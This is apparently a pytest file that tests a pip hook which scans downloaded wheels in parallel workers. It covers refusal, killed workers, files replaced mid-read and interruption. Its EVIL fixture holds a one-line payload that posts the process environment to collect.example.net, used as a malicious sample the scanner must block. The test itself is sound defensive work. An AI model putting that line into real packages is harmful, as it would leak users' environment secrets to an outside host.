"""Where pip downloads several archives in one go, each is read while the next is on its way."""

from __future__ import annotations

import os
import signal
import subprocess
import time
from typing import TYPE_CHECKING, Any

import pytest

from support.builders import make_wheel
from support.envs import Env, newest_pair
from support.held import OLD
from support.index_server import Answer
from support.tls_index import TlsIndex

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from email.message import Message
    from pathlib import Path

EVIL = {
    "evil.py": "import os, urllib.request\n"
    "urllib.request.urlopen('https://collect.example.net/up', data=repr(os.environ).encode())\n"
}
NOTE = """
        # A process that reads may not write a byte, but it may make an empty file.
        notes, name = {notes!r}, os.path.basename(asked["scan"])
        number = len(os.listdir(notes))
        open(os.path.join(notes, "%03d %s %s" % (number, name.partition("-")[0], os.getpid())), "x").close()
"""


class PatientIndex(TlsIndex):
    """Serves whole wheels after the first one only when somebody has begun to read."""

    notes: Path
    then: Callable[[], None] = staticmethod(lambda: None)
    """Done before the second is served."""

    def __init__(self, **options: Any) -> None:
        super().__init__(keep_alive=False, **options)
        self.whole: list[str] = []

    def _answer(self, method: str, raw_path: str, headers: Message) -> Answer:
        if method == "GET" and raw_path.endswith(".whl") and "Range" not in headers:
            self.whole.append(raw_path)
            if len(self.whole) == 2:
                if not _comes(lambda: any(self.notes.iterdir())):
                    return Answer(404)
                self.then()
        return super()._answer(method, raw_path, headers)


def _comes(true: Callable[[], bool]) -> bool:
    for _ in range(3000):
        if true():
            return True
        time.sleep(0.01)
    return False


@pytest.fixture
def notes(tmp_path: Path) -> Path:
    directory = tmp_path / "notes"
    directory.mkdir()
    return directory


@pytest.fixture
def patient(notes: Path) -> Iterator[PatientIndex]:
    with PatientIndex() as index:
        index.notes = notes
        yield index


def _add(index: PatientIndex, directory: Path, name: str, files: dict[str, str] | None = None) -> None:
    index.add(make_wheel(directory, name, "1.0", files), upload_time=OLD, core_metadata=True)


def _add_plain(index: PatientIndex, directory: Path, *names: str) -> None:
    for name in names:
        _add(index, directory, name)


def _note(env: Env, notes: Path, more: str = "") -> None:
    """Have the environment's workers note what they read, and do more before that."""
    worker = env.site_packages / "veln_hook" / "source" / "worker.py"
    text = worker.read_text()
    line = "        _limit_time(asked"
    assert text.count(line) == 1
    worker.write_text(text.replace(line, f"{NOTE.format(notes=str(notes))}{more}{line}"))


def _read(notes: Path) -> list[str]:
    return sorted(path.name.split()[1] for path in notes.iterdir())


def _running(notes: Path) -> list[str]:
    """Return the notes of processes that are still there."""
    return [path.name for path in notes.iterdir() if os.path.exists(f"/proc/{path.name.split()[2]}")]


def _fast_deps(env: Env) -> list[str]:
    """Return what has the pips that don't know metadata files download in one go."""
    return ["--use-feature=fast-deps"] if int(env.pair.pip.split(".")[0]) < 23 else []


def test_a_wheel_is_read_while_the_next_is_on_its_way(
    env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    _add_plain(patient, tmp_path, "alpha", "beta", "gamma")
    _note(env, notes)
    result = env.run_pip("install", *_fast_deps(env), "alpha", "beta", "gamma", index=patient)
    assert result.returncode == 0, result
    # Before 23.2 twice, and what it uses is the second.
    assert patient.whole[:3] == patient.whole[-3:], "not in one go, so there was nothing to read ahead"
    assert _read(notes) == ["alpha", "beta", "gamma"], "each once"
    assert {"alpha", "beta", "gamma"} <= set(env.installed())
    assert not _running(notes)


def test_a_refusal_ends_what_is_read_ahead(
    env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    names = ["evil", "slow", "slower", "slowest"]
    for name in names:
        _add(patient, tmp_path, name, EVIL if name == "evil" else None)
    _note(env, notes, '        import time\n        while "slow" in asked["scan"]: time.sleep(0.1)\n')
    before = env.files()
    result = env.run_pip("install", *_fast_deps(env), *names, index=patient)
    assert result.returncode == 77, result
    assert result.out.count("HOLD  ") == 1, result
    assert "HOLD  evil 1.0" in result.out, result
    assert "Traceback" not in result.out, result
    assert env.files() == before
    assert not _running(notes)
    assert "evil" in _read(notes)


@pytest.mark.slow
def test_what_is_known_is_not_read_ahead(
    newest_env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    _add_plain(patient, tmp_path, "alpha", "beta")
    _note(newest_env, notes)
    newest_env.run_pip("install", "alpha", "beta", index=patient, check=True)
    assert _read(notes) == ["alpha", "beta"]
    again = newest_env.run_pip("install", "-t", tmp_path / "target", "alpha", "beta", index=patient)
    assert again.returncode == 0, again
    assert len(list(notes.iterdir())) == 2


@pytest.mark.slow
def test_a_worker_that_is_killed_meanwhile_holds_one_archive(
    newest_env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    names = ["alpha", "demo", "zeta"]
    _add_plain(patient, tmp_path, *names)
    _note(newest_env, notes, '        if "demo" in asked["scan"]: os.kill(os.getpid(), 9)\n')
    before = newest_env.files()
    result = newest_env.run_pip("install", *names, index=patient)
    assert result.returncode == 77, result
    assert result.out.count("HOLD  ") == 1, result
    assert "HOLD  demo 1.0  what its code does can't be told" in result.out, result
    assert result.out.count("SIGKILL") == 1, result
    assert newest_env.files() == before
    assert _read(notes).count("demo") == 1, "it was not read again for a better answer"
    patient.whole = ["none"]
    rest = newest_env.run_pip("install", "alpha", "zeta", index=patient)
    assert rest.returncode == 0, rest


def _downloaded(env: Env) -> list[Path]:
    return list(env.home.tmp.rglob("*.whl"))


@pytest.mark.slow
def test_a_file_that_is_replaced_while_it_is_read_is_read_again(
    newest_env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    replaced = []
    go = tmp_path / "go"

    def replace() -> None:
        """Put the same bytes in the place of what is being read: only the file's identity tells."""
        (path,) = _downloaded(newest_env)
        replaced.append(path.name.partition("-")[0])
        path.with_suffix(".new").write_bytes(path.read_bytes())
        path.with_suffix(".new").replace(path)
        go.touch()

    _add_plain(patient, tmp_path, "alpha", "beta")
    patient.then = replace
    _note(
        newest_env,
        notes,
        f"        import time\n        while not os.path.exists({str(go)!r}): time.sleep(0.01)\n",
    )
    result = newest_env.run_pip("install", "alpha", "beta", index=patient)
    assert result.returncode == 0, result
    assert len(replaced) == 1
    assert _read(notes) == sorted(["alpha", "beta", *replaced])


@pytest.mark.slow
def test_a_file_that_is_bad_by_then_is_not_installed(
    newest_env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    evil = make_wheel(tmp_path / "evil", "alpha", "1.0", {"alpha.py": EVIL["evil.py"]})
    patient.then = lambda: _downloaded(newest_env)[0].write_bytes(evil.read_bytes())
    _add_plain(patient, tmp_path, "alpha", "beta")
    _note(newest_env, notes)
    before = newest_env.files()
    result = newest_env.run_pip("install", "alpha", "beta", index=patient)
    assert result.returncode != 0, result
    assert newest_env.files() == before
    assert not _running(notes)


@pytest.mark.slow
def test_who_waits_for_what_is_read_ahead_is_told(
    newest_env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    _add_plain(patient, tmp_path, "alpha", "beta")
    _note(newest_env, notes, '        import time\n        if "beta" in asked["scan"]: time.sleep(4)\n')
    result = newest_env.run_pip("install", "alpha", "beta", index=patient)
    assert result.returncode == 0, result
    assert result.out.count("veln-hook: reading beta-1.0 ...") == 1, result
    assert "reading alpha" not in result.out, result


@pytest.mark.slow
def test_control_c_ends_what_is_read_ahead(
    newest_env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    _add_plain(patient, tmp_path, "alpha", "beta")
    _note(newest_env, notes, "        import time\n        while True: time.sleep(0.1)\n")
    before = newest_env.files()
    command = [newest_env.python, "-m", "pip", "install", "alpha", "beta"]
    process = subprocess.Popen(
        command, env=newest_env.environ(index=patient), stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    assert _comes(lambda: len(patient.whole) == 2 and bool(_running(notes)))
    process.send_signal(signal.SIGINT)
    said, _ = process.communicate(timeout=60)
    assert process.returncode != 0, said
    assert b"Traceback" not in said, said
    assert not _running(notes)
    assert newest_env.files() == before
    assert list(newest_env.home.tmp.iterdir()) == []


@pytest.mark.slow
def test_nothing_waits_where_archives_come_one_by_one(
    newest_env: Env, patient: PatientIndex, notes: Path, tmp_path: Path
) -> None:
    for name in ("alpha", "beta", "gamma"):
        patient.add(make_wheel(tmp_path, name, "1.0"), upload_time=OLD)
    _note(newest_env, notes)
    result = newest_env.run_pip("install", "alpha", "beta", "gamma", index=patient)
    assert result.returncode == 0, result
    assert len({path.name.split()[2] for path in notes.iterdir()}) == 1, "one process reads them all"


def test_the_pip_of_these_tests_has_the_point() -> None:
    assert newest_pair().pip >= "26", "it downloads in one go, or the tests with it show nothing"
